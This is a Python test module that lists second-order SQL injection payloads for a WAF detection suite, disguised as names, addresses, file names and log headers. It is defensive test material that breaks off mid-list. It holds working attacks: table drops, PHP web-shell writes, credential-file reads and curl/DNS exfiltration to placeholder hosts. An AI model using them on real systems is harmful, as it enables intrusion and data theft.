"""Blind set "hundredninetyfirst": stored and second-order SQL and NoSQL injection, planted in data that is saved
now and used later, with benign requests in which real people fill the same fields innocently.

The angle: the attacker does not attack the request that stores the value; the value waits in the database until
something else reads it and builds a query from it. Payloads are written the way they are planted (recalled from
memory, never looked up): display names, bios, postal addresses, uploaded file names, settings and preferences
(sort column, page size, time zone, theme, locale), webhook URLs, notification and e-mail templates, cells of an
import file, search filters saved as reports, User-Agent and Referer strings written to a log table that an admin
page or an analytics job later queries, and JSON documents kept as blobs (saved MongoDB filters and pipelines).
Each payload is shaped for the sink that reads it later (the nightly report's SQL, the admin page's user lookup,
the log viewer's query, the mailer's recipient lookup, the cron job's cleanup statement, the password-change
UPDATE) and still is a working attack against the database it names. Each group of payloads carries a comment
naming where it is stored, the sink that reads it and the target (MySQL/MariaDB, PostgreSQL, SQLite, SQL Server,
Oracle, MongoDB).

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path; file names as the admin import's upload name), under the names of the fields
they are planted in (display_name, bio, address, filename, settings, webhook_url, template, filter, sort, name),
once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/,
/index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x,
test, id, arg1), as a query string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent,
Referer, a custom header or a cookie. Payloads planted as a User-Agent, a Referer or an upload's file name go in
that place in both copies; saved MongoDB filters and pipelines go as the whole JSON body; PHP/Express bracket
operators (`filter[owner][$ne]=x`) go as raw `name=value` pairs. Payloads with a newline or tab never go into
headers, cookies, file names or the path.

Authorship and independence: written for this repository from general knowledge of each attack family and of
second-order injection as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredninetyfirst"

# An entry is a payload string, or (payload, real placement, rs placement) when it is planted in one kind of place.
Entry = str | tuple[str, str, str]
UAH = ("header:User-Agent", "rs-header:User-Agent")   # written to the access-log table as the User-Agent
REF = ("header:Referer", "rs-header:Referer")   # written to the access-log table as the Referer
FN = ("multipart-filename", "rs-multipart-filename")   # stored as an uploaded document's file name
CK = ("cookie", "rs-cookie")   # a remembered preference kept in a cookie and saved to the profile on login
JB = ("json-body", "rs-json-body")   # a JSON document stored as a blob
KV = ("form", "rs-raw-body")   # a saved filter posted as bracket parameters (qs / PHP arrays)

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: a stored value that closes the string literal of the query that later reads it
LIBINJECTION: list[Entry] = [
    # display name -> nightly "new members" report (MySQL) that concatenates the name into its WHERE clause
    "Jane Doe' or '1'='1",
    "Jane Doe' or 1=1-- -",
    "J. Smith' or 'x'='x'#",
    "Dr. Ada Lovelace' or 1 -- ",
    # display name with a real apostrophe as cover -> admin "find duplicates" page (PostgreSQL)
    "Conan O'Brien' or 'a'='a",
    "D'Arcy' or true --",
    # bio -> moderation queue query that selects bios by exact text (SQLite)
    "Coffee, cats and code' or ''='",
    "Hiker. Reader.' or 1=1 --",
    # postal address -> shipping-label batch job (MySQL) that looks up rows by address line
    "Flat 3, 12 High St' or '1'='1' -- ",
    "42 Main St') or ('a'='a",
    "Apt 7B')) or 1=1#",
    # uploaded file name -> document index job (SQL Server) that selects by name
    ("quarterly-report.pdf' or 1=1--", *FN),
    ("scan_0042.png' or 'z'='z", *FN),
    # settings: time zone, locale and theme -> the digest mailer's per-user query (MySQL)
    "Europe/London' or 1=1#",
    "en-GB' or 'a'='a'-- ",
    "dark' or 1=1 or 'x'='y",
    # numeric preference stored as text (page size) -> admin list query without quotes (MySQL, SQLite)
    "50 or 1=1",
    "25) or (1=1",
    # webhook URL -> delivery worker (PostgreSQL) that finds the subscription by URL
    "https://hooks.example.net/in/7f3a' or '1'='1",
    # notification template -> template renderer (Oracle) that looks the template up by body
    "Hi {{first_name}}' or 'a'='a",
    # import-file cell (display name column) -> import reconciliation query (SQL Server)
    "Maria Garcia' or 1=1 --",
    "\" or \"\"=\"",
    # saved search filter -> scheduled report (MySQL) built with string formatting
    "team:infra' or 1=1 -- -",
    "status=active\" or \"1\"=\"1",
    # User-Agent written to the access log -> the admin "top agents" page (MySQL) that filters by agent
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64)' or '1'='1", *UAH),
    ("curl/8.4.0' or 1=1-- -", *UAH),
    # Referer written to the access log -> referral analytics job (PostgreSQL)
    ("https://www.google.com/search?q=shoes' or '1'='1", *REF),
    ("https://news.example.org/' or 1=1 --", *REF),
]

# sql-tautology/boolean: a stored condition that is always true, or a true/false pair whose reports differ
TAUTOLOGY: list[Entry] = [
    # display name pair -> "members named X" report (MySQL): the report's row count is the oracle
    "Ana Lima' and 1=1 and 'a'='a",
    "Ana Lima' and 1=2 and 'a'='a",
    "Ana Lima' and (select count(*) from users)>100 and '1'='1",
    "Ana Lima' and (select substring(password,1,1) from users where username='admin')='$' and '1'='1",
    # bio -> moderation job (MySQL): comparison operators that are always true
    "Runner and baker' or 2>1 -- ",
    "Runner and baker' or 1<>2 -- ",
    "Runner and baker' or not 0 -- ",
    "Runner and baker' or 1 is not null -- ",
    "Runner and baker' or 1<=>1#",
    # address -> invoicing run (PostgreSQL): the boolean must be a real boolean
    "Rua Augusta 12' or true --",
    "Rua Augusta 12' or 1::bool --",
    "Rua Augusta 12' or current_user=current_user --",
    "Rua Augusta 12' and (select current_setting('is_superuser'))='on' and 'a'='a",
    # locale setting -> weekly digest (SQL Server): no boolean type, integers compared
    "fr-FR' or 1=1 and 'b'='b",
    "fr-FR' or (select count(*) from sysobjects)>0 --",
    "fr-FR' and is_srvrolemember('sysadmin')=1 and 'a'='a",
    # saved report filter -> Oracle report server
    "region=EMEA' or 1=(select 1 from dual) --",
    "region=EMEA' and (select count(*) from all_users)>20 and 'a'='a",
    # saved report filter -> SQLite analytics file
    "plan=pro' or sqlite_version()>'3' --",
    "plan=pro' and (select count(*) from sqlite_master)>3 and 'a'='a",
    # webhook URL -> delivery worker (MySQL), condition built with xor
    "https://hooks.example.net/t/1' xor 1 xor '",
    "https://hooks.example.net/t/2' or 'abc'='abc",
    # User-Agent in the log table -> log viewer (MySQL)
    ("Mozilla/5.0 (X11; Linux x86_64)' or 7=7#", *UAH),
    ("Mozilla/5.0 (iPhone)' and 1=1 and 'a'='a", *UAH),
    # Referer in the log table -> analytics (PostgreSQL)
    ("https://www.bing.com/' or 'a'||'b'='ab' --", *REF),
    # import-file cells -> reconciliation query (MySQL)
    "ACME GmbH' or 0=0 -- ",
    "ACME GmbH' || '1'='1",
    # numeric preference stored unquoted -> admin list query (MySQL, SQLite)
    "20 or 3>2",
]

# sql-comment-sequence: a stored value that cuts off the rest of the query that reads it
COMMENT: list[Entry] = [
    # display name -> admin "recent sign-ups" page (MySQL): the comment drops the AND deleted=0 that follows
    "Jane Doe'-- ",
    "Jane Doe'#",
    "Jane Doe'/*",
    "Jane Doe'-- -",
    # first name and last name stored apart, read by one query (MySQL): the comment spans both fields
    "Maria'/*",
    "*/or 1=1-- -",
    # bio -> moderation query (PostgreSQL)
    "Gardener, dad, amateur astronomer' or 1=1 --",
    "Gardener'--\n",
    # address line -> batch label job (SQL Server)
    "Suite 100';--",
    "Unit 5'; --",
    # uploaded file name -> document index (MySQL, SQLite)
    ("minutes_2024-05.docx'-- -", *FN),
    ("budget.xlsx'#", *FN),
    ("photo.jpg'/*", *FN),
    # theme setting -> per-user preference query in the digest mailer (MySQL)
    "light';#",
    "light' or 1=1;-- ",
    # notification template -> template lookup (Oracle): everything after the comment is ignored
    "Your order {{order_id}} has shipped' or 1=1 --",
    # e-mail template subject -> mail queue job (SQLite)
    "Welcome aboard!' or 1=1;/*",
    # webhook URL -> delivery worker (PostgreSQL)
    "https://hooks.example.net/in/abc'--",
    "https://hooks.example.net/in/abc' or 1=1/*",
    # saved search filter -> scheduled report (MySQL)
    "status:open' or 1=1 --+",
    "status:open' or 1=1 limit 1 -- -",
    # import-file cell -> reconciliation (SQL Server)
    "Contoso Ltd'--",
    # User-Agent written to logs -> log viewer (MySQL)
    ("Mozilla/5.0 (Macintosh)'-- ", *UAH),
    ("Googlebot/2.1'#", *UAH),
    # Referer written to logs -> referral report (PostgreSQL)
    ("https://t.co/abc' or 1=1 --", *REF),
    # display name -> admin lookup that wraps the value in parentheses (SQLite): close them, then comment
    "Jane Doe') --",
    # preference stored unquoted (page size) -> admin list (MySQL)
    "10#",
    "10-- -",
]

# union-select: a stored value that appends the attacker's rows to the report or page that reads it
UNION: list[Entry] = [
    # saved search filter -> scheduled CSV report (MySQL), three columns: name, email, team
    "team:infra' union select username,password,3 from users -- -",
    "team:infra' union select 1,@@version,user()#",
    "team:infra' union select 1,group_concat(email,0x3a,password),3 from users#",
    "team:infra' union all select null,null,null -- -",
    # display name -> "members like you" widget (MySQL), two columns
    "Ana' union select user(),database()#",
    "Ana' union select username,password from admin_users -- -",
    # bio -> public profile page (PostgreSQL)
    "Photographer' union select null,version() --",
    "Photographer' union select usename,passwd from pg_shadow --",
    "Photographer' union select null,string_agg(email||':'||password_hash,',') from users --",
    # address -> shipping labels (SQLite)
    "Baker St 221B' union select 1,sql from sqlite_master --",
    "Baker St 221B' union select group_concat(email),group_concat(password) from users --",
    # file name -> document index (SQL Server)
    ("offer-letter.pdf' union select null,@@version --", *FN),
    ("offer-letter.pdf' union all select name,password_hash from sys.sql_logins --", *FN),
    # webhook URL -> delivery worker (SQL Server)
    "https://hooks.example.net/x' union select top 1 name,null from master..sysdatabases --",
    # notification template -> template engine lookup (Oracle)
    "Hello {{name}}' union select banner,null from v$version --",
    "Hello {{name}}' union select username,password from sys.user$ --",
    # settings (locale) -> digest mailer (MySQL)
    "de-DE' union select 1,concat(username,':',password) from users limit 1 -- -",
    # import-file cell -> reconciliation (PostgreSQL)
    "Globex Corp' union select null,current_user --",
    "Globex Corp' union select null,pg_read_file('/etc/passwd') --",
    # numeric preference stored unquoted (page size) -> admin list (MySQL)
    "25 union select 1,2,3",
    "0 union all select username,password,email from users",
    # User-Agent in the access log -> admin log viewer (MySQL)
    ("Mozilla/5.0' union select 1,2,3,4,5 -- -", *UAH),
    ("Mozilla/5.0' union select null,user(),version(),null -- -", *UAH),
    # Referer in the access log -> referral report (PostgreSQL)
    ("https://example.com/' union select null,current_database() --", *REF),
    ("https://example.com/' union select null,inet_server_addr()::text --", *REF),
    # JSON blob field (saved dashboard title) -> dashboard list query (SQLite)
    "Sales Q3' union select name,tbl_name from sqlite_master where type='table' --",
    # saved filter -> Oracle report server
    "region=APAC' union select null,sys_context('userenv','current_user') from dual --",
    "region=APAC' union select table_name,owner from all_tables --",
]

# stacked-queries: a stored value that ends the reading statement and runs one of its own
STACKED: list[Entry] = [
    # display name -> nightly cleanup cron job (SQL Server) that builds its DELETE from names
    "Robert'); DROP TABLE students;--",
    "Ana'; drop table audit_log;--",
    "Ana'; truncate table sessions;--",
    "Ana'; shutdown with nowait;--",
    # display name -> admin "merge accounts" page (PostgreSQL) that runs multi-statement SQL
    "Eve'; update users set is_admin=true where email='eve@example.net';--",
    "Eve'; insert into admins(user_id) select id from users where email='eve@example.net';--",
    "Eve'; alter user postgres with password 'owned';--",
    "Eve'; create role eve2 login superuser password 'x';--",
    # bio -> moderation batch (MySQL with multi-statements enabled)
    "Just a bio'; update users set role='admin' where username='eve';#",
    "Just a bio'; grant all privileges on *.* to 'eve'@'%';#",
    "Just a bio'; set global general_log='ON';#",
    "Just a bio'; delete from users where 1=1;#",
    # address -> label job (SQLite): attach a new database file in the web root and write PHP into it
    "Main St 1'; attach database '/var/www/html/x.php' as x; create table x.t(c text); "
    "insert into x.t values('<?php system($_GET[0]); ?>');--",
    "Main St 1'; drop table if exists orders;--",
    # settings (time zone) -> digest mailer (PostgreSQL)
    "UTC'; copy (select '') to program 'touch /tmp/pwned';--",
    "UTC'; create table loot as select * from pg_shadow;--",
    # webhook URL -> delivery worker (SQL Server)
    "https://hooks.example.net/a'; exec sp_addlogin 'eve','Passw0rd!';--",
    "https://hooks.example.net/a'; update subscriptions set url='https://evil.example/c';--",
    # notification template -> template store (Oracle PL/SQL block run by the mailer)
    "Dear {{name}}'; begin execute immediate 'grant dba to app_user'; end;--",
    # file name -> document index job (MySQL)
    ("invoice.pdf'; drop table documents;#", *FN),
    ("invoice.pdf'; update users set password='' where id=1;#", *FN),
    # import-file cell -> reconciliation (SQL Server)
    "Initech'; insert into users(username,password,role) values('eve','x','admin');--",
    # numeric preference stored unquoted -> admin list (PostgreSQL, SQL Server)
    "50; drop table users",
    "50; update users set role='admin'",
    # User-Agent in the access log -> log rotation job (PostgreSQL)
    ("Mozilla/5.0'; delete from access_log;--", *UAH),
    ("Mozilla/5.0'; drop table access_log;--", *UAH),
    # Referer in the access log -> analytics (SQL Server)
    ("https://example.org/'; exec('drop table audit');--", *REF),
    # saved filter -> scheduled report (MySQL)
    "owner:me'; insert into api_keys(user_id,token) values(1,'eve-token');#",
]

# time-based-blind: a stored value that delays the job or page that reads it (sleep/benchmark/pg_sleep/waitfor)
TIME: list[Entry] = [
    # display name -> admin user list (MySQL): the page load time is the oracle
    "Ana' and sleep(5) and '1'='1",
    "Ana' or sleep(5)#",
    "Ana' and (select 1 from (select sleep(5))a) -- -",
    "Ana' and if(substr(user(),1,1)='r',sleep(5),0) -- -",
    "Ana' and if((select count(*) from users where role='admin')>1,sleep(5),0)#",
    "Ana' and benchmark(10000000,sha1('x')) -- -",
    "0'xor(if(now()=sysdate(),sleep(5),0))xor'z",
    # bio -> moderation job (PostgreSQL)
    "Bird watcher'||pg_sleep(5)||'",
    "Bird watcher' and 1=(select 1 from pg_sleep(5)) --",
    "Bird watcher' and (select case when current_user='postgres' then pg_sleep(5) else pg_sleep(0) end) "
    "is not null --",
    "Bird watcher'; select pg_sleep(5);--",
    # address -> label batch (SQL Server)
    "Rue de Rivoli 1'; waitfor delay '0:0:5';--",
    "Rue de Rivoli 1'; if (system_user='sa') waitfor delay '0:0:5';--",
    "Rue de Rivoli 1'; if (ascii(substring(db_name(),1,1))>100) waitfor delay '0:0:5';--",
    # numeric preference stored unquoted -> admin list (SQL Server, MySQL)
    "50; waitfor delay '00:00:05'",
    "50 and sleep(5)",
    # settings -> digest mailer (Oracle)
    "ja-JP' and 1=dbms_pipe.receive_message('x',5) --",
    "ja-JP' and (select case when user='SYSTEM' then dbms_pipe.receive_message('x',5) else 1 end from dual)=1 --",
    # import-file cell -> reconciliation (SQLite): a heavy expression stands in for sleep
    "Umbrella Inc' and 1=like('ABCDEFG',upper(hex(randomblob(300000000)))) --",
    # webhook URL -> delivery worker (MySQL)
    "https://hooks.example.net/s' and sleep(10) -- -",
    # notification template -> template lookup (PostgreSQL)
    "Hi {{name}}' and (select 1 from pg_sleep(10)) is null --",
    # uploaded file name -> document index (MySQL, SQL Server)
    ("report.pdf' and sleep(5) and 'a'='a", *FN),
    ("report.pdf'; waitfor delay '0:0:5'--", *FN),
    # User-Agent in the access log -> log viewer (MySQL)
    ("Mozilla/5.0 (X11; Linux)' and sleep(10) and '1'='1", *UAH),
    ("Mozilla/5.0'+(select*from(select(sleep(10)))a)+'", *UAH),
    ("Mozilla/5.0';waitfor delay '0:0:10'--", *UAH),
    # Referer in the access log -> referral analytics (PostgreSQL)
    ("https://example.net/'||(select pg_sleep(10))||'", *REF),
    # saved report filter -> scheduled report (MySQL), rlike forcing the delay
    "status:open' rlike (select case when (1=1) then sleep(5) else 1 end) -- -",
]

# error-based: a stored value whose read makes the database print data inside an error the page shows
ERROR: list[Entry] = [
    # display name -> admin profile page that shows the SQL error (MySQL)
    "Ana' and extractvalue(1,concat(0x7e,version())) -- -",
    "Ana' and updatexml(1,concat(0x7e,(select user())),1) -- -",
    "Ana' and extractvalue(rand(),concat(0x3a,(select password from users limit 1))) -- -",
    "Ana' and updatexml(null,concat(0x0a,(select group_concat(table_name) from information_schema.tables "
    "where table_schema=database())),null) -- -",
    "Ana' and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x "
    "from information_schema.tables group by x)a) -- -",
    "Ana' and exp(~(select * from (select user())a)) -- -",
    "Ana' and gtid_subset(concat(0x7e,(select @@hostname)),1) -- -",
    # bio -> moderation view (SQL Server): conversion errors carry the value
    "Keen cyclist' and 1=convert(int,@@version)--",
    "Keen cyclist' and 1=convert(int,(select top 1 name from sysobjects where xtype='U'))--",
    "Keen cyclist' and 1=cast(system_user as int)--",
    "Keen cyclist' and 1=convert(int,(select top 1 password_hash from sys.sql_logins))--",
    # address -> invoice run (PostgreSQL)
    "Unter den Linden 5' and 1=cast(version() as int) --",
    "Unter den Linden 5' and 1=cast((select passwd from pg_shadow limit 1) as numeric) --",
    "Unter den Linden 5'||cast(current_database() as int)||'",
    "Unter den Linden 5' and 1=cast((select string_agg(table_name,',') from information_schema.tables) as int) --",
    # settings -> digest mailer (Oracle)
    "pt-BR' and 1=ctxsys.drithsx.sn(1,(select user from dual)) --",
    "pt-BR' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1)) --",
    "pt-BR' and (select upper(xmltype(chr(60)||chr(58)||(select user from dual)||chr(62))) from dual) "
    "is not null --",
    # uploaded file name -> document index (MySQL, SQL Server)
    ("contract.pdf' and extractvalue(1,concat(0x5c,database())) -- -", *FN),
    ("contract.pdf' and 1=convert(int,db_name())--", *FN),
    # webhook URL -> delivery worker (MySQL)
    "https://hooks.example.net/e' and updatexml(1,concat(0x7e,@@datadir),1) -- -",
    # notification template -> template lookup (PostgreSQL)
    "Hi {{name}}' and 1=cast(current_user as int) --",
    # import-file cell -> reconciliation (MySQL 5.7 JSON functions)
    "Stark Industries' and json_keys((select convert((select group_concat(email) from users) using utf8))) -- -",
    # saved filter -> report (MySQL)
    "owner:me' and polygon((select * from (select * from (select @@version)f)x)) -- -",
    # User-Agent in the access log -> log viewer with errors shown (MySQL, SQL Server)
    ("Mozilla/5.0' and extractvalue(1,concat(0x7e,user())) -- -", *UAH),
    ("Mozilla/5.0' and 1=convert(int,@@servername)--", *UAH),
    # Referer in the access log -> referral analytics (PostgreSQL)
    ("https://example.com/' and 1=cast(inet_server_addr()::text as int) --", *REF),
    # numeric preference stored unquoted (MySQL)
    "10 and extractvalue(1,concat(0x7e,(select database())))",
]

# out-of-band: a stored value that makes the reading job fetch a file or reach the attacker's host
# (load_file / into outfile / xp_dirtree / utl_http / dblink)
OOB: list[Entry] = [
    # display name -> admin search (MySQL on Windows): UNC path, the DNS lookup leaks the value
    "Ana' and load_file(concat('\\\\\\\\',(select password from users limit 1),'.oast.example.net\\\\a')) -- -",
    "Ana' and load_file(concat('\\\\\\\\',version(),'.',user(),'.oast.example.net\\\\x')) -- -",
    # display name -> report export (MySQL): read server files
    "Ana' union select load_file('/etc/passwd'),2 -- -",
    "Ana' union select load_file('/var/www/html/config.php'),2 -- -",
    # bio -> nightly export job (MySQL): write a web shell where the web server serves it
    "Just me' union select '<?php system($_GET[\"c\"]); ?>',2 into outfile '/var/www/html/c.php' -- -",
    "Just me' union select 0x3c3f7068702073797374656d28245f4745545b305d293b3f3e,2 into dumpfile "
    "'/var/www/html/s.php' -- -",
    "Just me' into outfile '/var/www/html/dump.txt' -- -",
    # address -> label batch (SQL Server): SMB lookups to the attacker
    "Calle Mayor 3'; exec master..xp_dirtree '\\\\oast.example.net\\a';--",
    "Calle Mayor 3'; exec master..xp_fileexist '\\\\oast.example.net\\b';--",
    "Calle Mayor 3'; declare @q varchar(200); set @q='\\\\'+(select top 1 name from sys.sql_logins)+"
    "'.oast.example.net\\c'; exec master..xp_dirtree @q;--",
    "Calle Mayor 3'; exec master..xp_subdirs '\\\\oast.example.net\\d';--",
    # settings -> digest mailer (Oracle): HTTP and DNS requests from the database
    "sv-SE' and utl_http.request('http://oast.example.net/'||(select user from dual)) is not null --",
    "sv-SE' and utl_inaddr.get_host_address((select user from dual)||'.oast.example.net') is not null --",
    "sv-SE' and httpuritype('http://oast.example.net/'||(select password from dba_users where rownum=1))"
    ".getclob() is not null --",
    "sv-SE' and extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
    "\"http://oast.example.net/x\"> %x;]>'),'/l') is null --",
    # webhook URL -> delivery worker (PostgreSQL): dblink and COPY TO PROGRAM
    "https://hooks.example.net/d' and (select dblink_connect('host=oast.example.net user=a password=b dbname='"
    "||current_user)) is not null --",
    "https://hooks.example.net/d'; select * from dblink('host=oast.example.net dbname=x','select 1') as t(a int);--",
    "https://hooks.example.net/d'; copy (select current_user) to program 'curl -d @- http://oast.example.net/';--",
    # notification template -> template lookup (PostgreSQL): read files
    "Hi {{name}}' union select null,pg_read_file('/etc/passwd') --",
    "Hi {{name}}'; copy users to '/tmp/users.csv';--",
    # uploaded file name -> document index (MySQL, SQL Server)
    ("notes.txt' union select load_file('/etc/hosts'),2 -- -", *FN),
    ("notes.txt'; exec master..xp_dirtree '\\\\oast.example.net\\f';--", *FN),
    # import-file cell -> reconciliation (SQL Server OPENROWSET to the attacker's server)
    "Wayne Enterprises'; select * from openrowset('SQLOLEDB','server=oast.example.net;uid=sa;pwd=x',"
    "'select 1');--",
    # SQLite: attach a database file on a network share
    "Hooli' ; attach database '\\\\oast.example.net\\s\\x.db' as x;--",
    # User-Agent in the access log -> log viewer (MySQL, Oracle)
    ("Mozilla/5.0' union select load_file('/etc/shadow'),2,3 -- -", *UAH),
    ("Mozilla/5.0' and utl_http.request('http://oast.example.net/ua') is not null --", *UAH),
    # Referer in the access log -> referral analytics (SQL Server)
    ("https://example.org/'; exec master..xp_dirtree '\\\\ref.oast.example.net\\r';--", *REF),
    # saved filter -> scheduled report (MySQL)
    "owner:me' union select 1,load_file(0x2f6574632f706173737764),3 -- -",
]

# information-schema/catalog probing: a stored value that lists the database's tables and columns into a report
CATALOG: list[Entry] = [
    # saved search filter -> scheduled CSV report (MySQL)
    "team:ops' union select table_name,column_name,3 from information_schema.columns -- -",
    "team:ops' union select 1,group_concat(table_name),3 from information_schema.tables "
    "where table_schema=database()#",
    "team:ops' union select schema_name,null,null from information_schema.schemata -- -",
    "team:ops' union select 1,group_concat(column_name),3 from information_schema.columns "
    "where table_name='users'#",
    "team:ops' and (select count(*) from information_schema.tables)>50 -- -",
    # MySQL without information_schema: InnoDB statistics and the sys schema
    "team:ops' union select 1,table_name,3 from mysql.innodb_table_stats -- -",
    "team:ops' union select 1,table_name,3 from sys.schema_table_statistics -- -",
    "team:ops' union select user,authentication_string,3 from mysql.user -- -",
    # display name -> "people like you" widget (PostgreSQL catalog)
    "Ana' union select tablename,schemaname from pg_tables where schemaname='public' --",
    "Ana' union select attname,null from pg_attribute where attrelid='users'::regclass --",
    "Ana' union select table_name,column_name from information_schema.columns where table_schema='public' --",
    "Ana' union select datname,null from pg_database --",
    # bio -> profile page (SQLite)
    "Musician' union select name,sql from sqlite_master where type='table' --",
    "Musician' union select name,type from pragma_table_info('users') --",
    "Musician' union select tbl_name,sql from sqlite_schema --",
    # address -> label job (SQL Server)
    "Via Roma 10' union select name,null from sys.tables --",
    "Via Roma 10' union select name,null from sysobjects where xtype='U' --",
    "Via Roma 10' union select table_name,column_name from information_schema.columns --",
    "Via Roma 10' union select name,null from master..sysdatabases --",
    # settings -> digest mailer (Oracle)
    "nl-NL' union select table_name,owner from all_tables --",
    "nl-NL' union select column_name,data_type from all_tab_columns where table_name='USERS' --",
    "nl-NL' union select username,null from all_users --",
    # uploaded file name -> document index (MySQL)
    ("catalog.pdf' union select table_name,2 from information_schema.tables -- -", *FN),
    # webhook URL -> delivery worker (PostgreSQL)
    "https://hooks.example.net/c' union select relname,null from pg_class where relkind='r' --",
    # import-file cell -> reconciliation (SQL Server)
    "Vandelay Industries' union select name,type_desc from sys.objects --",
    # User-Agent in the access log -> log viewer (MySQL)
    ("Mozilla/5.0' union select table_schema,table_name,3 from information_schema.tables -- -", *UAH),
    # Referer in the access log -> referral analytics (PostgreSQL)
    ("https://example.net/' union select nspname,null from pg_namespace --", *REF),
    # notification template -> template lookup (SQLite)
    "Hi {{name}}' union select group_concat(name),1 from sqlite_master --",
]

# mysql-comment-obfuscation: the same stored attacks with MySQL's versioned and inline comments
MYCOMMENT: list[Entry] = [
    # display name -> admin search (MySQL): versioned comments run as code
    "Ana'/*!50000union*//*!50000select*/1,user(),3-- -",
    "Ana'/*!or*/1=1#",
    "Ana' /*!12345UNION SELECT*/ 1,@@version,3#",
    "Ana'/*!00000and*/sleep(5)#",
    "Ana'/*!40000 or 1=1*/#",
    "Ana'/*!union*/ all /*!select*/ 1,2,3#",
    "Ana'/*!32302and*/1=1#",
    "Ana'/*!50001or*/'a'='a",
    # bio -> moderation queue (MySQL): inline comments where spaces are stripped on save
    "Writer'/**/union/**/select/**/1,password,3/**/from/**/users#",
    "Writer'/**/or/**/1=1/**/-- -",
    "Writer'/*note*/or/*x*/'1'='1",
    "Writer'/**/and/**/extractvalue(1,concat(0x7e,user()))#",
    # address -> label batch (MySQL): a hash comment then a newline splits the keywords
    "Hauptstr 3' union#\nselect 1,user(),3#",
    "Hauptstr 3' union-- -\nselect 1,version(),3-- -",
    "Hauptstr 3'\n/*!union*/\n/*!select*/ 1,2,3#",
    # uploaded file name -> document index (MySQL)
    ("scan.pdf'/*!or*/1=1-- -", *FN),
    ("scan.pdf'/*!50000union*/select 1,2#", *FN),
    # settings (theme) -> digest mailer (MySQL): the filter removes keywords, comments cut them in two
    "dark' UN/**/ION SEL/**/ECT 1,user(),3-- -",
    "dark'/*!50000union*//*!50000all*//*!50000select*/1,2,3#",
    "dark' /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,password,3 from users#",
    # webhook URL -> delivery worker (MySQL)
    "https://hooks.example.net/m'/*!and*/sleep(5)/*!*/-- -",
    # notification template -> template store (MySQL)
    "Hello {{name}}'/*!*/or/*!*/1=1-- -",
    # import-file cell -> reconciliation (MySQL)
    "Soylent'/*!50000or*/(select 1)#",
    # User-Agent written to logs -> log viewer (MySQL)
    ("Mozilla/5.0'/*!50000union*/select 1,2,3-- -", *UAH),
    ("Mozilla/5.0'/**/or/**/sleep(5)#", *UAH),
    # Referer written to logs -> referral analytics (MySQL)
    ("https://example.com/'/*!or*/1=1#", *REF),
    # numeric preference stored unquoted (MySQL)
    "20/*!00000AND*/2>1",
    "20/*!or*/1=1",
]

# function-based-probing: a stored value that extracts data a character at a time (substring/ascii/char/concat)
FUNCTION: list[Entry] = [
    # display name -> admin search (MySQL)
    "Ana' and ascii(substring((select password from users limit 1),1,1))>77 -- -",
    "Ana' and substring(version(),1,1)='8' -- -",
    "Ana' and ord(mid(user(),1,1))=114 -- -",
    "Ana' and length(database())=6 -- -",
    "Ana' and char_length((select group_concat(username) from users))>10 -- -",
    "Ana' union select concat(username,0x3a,password),2 from users -- -",
    "Ana' union select concat_ws(0x3a,user(),database(),version()),2 -- -",
    "Ana' and left((select password from users where id=1),1)=char(36) -- -",
    # bio -> moderation (SQL Server)
    "Runner' and unicode(substring(system_user,1,1))=115--",
    "Runner' and len(db_name())=6--",
    "Runner' and ascii(substring((select top 1 name from sys.databases),1,1))>96--",
    "Runner' and char(65)+char(66)='AB' and substring(@@version,1,9)='Microsoft'--",
    # address -> invoice run (PostgreSQL)
    "Kungsgatan 4' and ascii(substr(current_user,1,1))=112 --",
    "Kungsgatan 4' and strpos(version(),'PostgreSQL')=1 --",
    "Kungsgatan 4' and left(current_database(),1)='a' --",
    "Kungsgatan 4' and length((select passwd from pg_shadow limit 1))=35 --",
    # settings -> digest mailer (Oracle)
    "es-ES' and ascii(substr((select user from dual),1,1))=83 --",
    "es-ES' and length((select password from dba_users where rownum=1))=16 --",
    "es-ES' and instr((select banner from v$version where rownum=1),'Oracle')>0 --",
    # saved filter -> analytics file (SQLite)
    "plan=team' and unicode(substr(sqlite_version(),1,1))=51 --",
    "plan=team' and hex(substr((select sql from sqlite_master limit 1),1,1))='43' --",
    "plan=team' and substr((select password from users limit 1),1,1)=char(36) --",
    # uploaded file name -> document index (MySQL)
    ("cv.pdf' and ascii(mid(database(),1,1))>100 -- -", *FN),
    # webhook URL -> delivery worker (MySQL)
    "https://hooks.example.net/f' and substring(@@hostname,1,1)='d' -- -",
    # User-Agent in the access log -> log viewer (MySQL)
    ("Mozilla/5.0' and ascii(substring(user(),1,1))=114 and '1'='1", *UAH),
    # Referer in the access log -> analytics (PostgreSQL)
    ("https://example.org/' and substr(current_setting('data_directory'),1,1)='/' --", *REF),
    # notification template -> template lookup (MySQL)
    "Hi {{name}}' and mid(lpad(bin(ascii(substring(user(),1,1))),8,0),1,1)=0 -- -",
    # import-file cell -> reconciliation (MySQL)
    "Pied Piper' and (select concat(substr(password,1,2)) from users where id=1)='$2' -- -",
]

# sql-authentication-bypass: a stored username or token that logs in as someone else when read later
AUTH: list[Entry] = [
    # registered username -> the password-change UPDATE (MySQL): "admin'-- " changes the admin's password
    "admin'-- ",
    "admin'#",
    "admin'/*",
    "administrator'-- -",
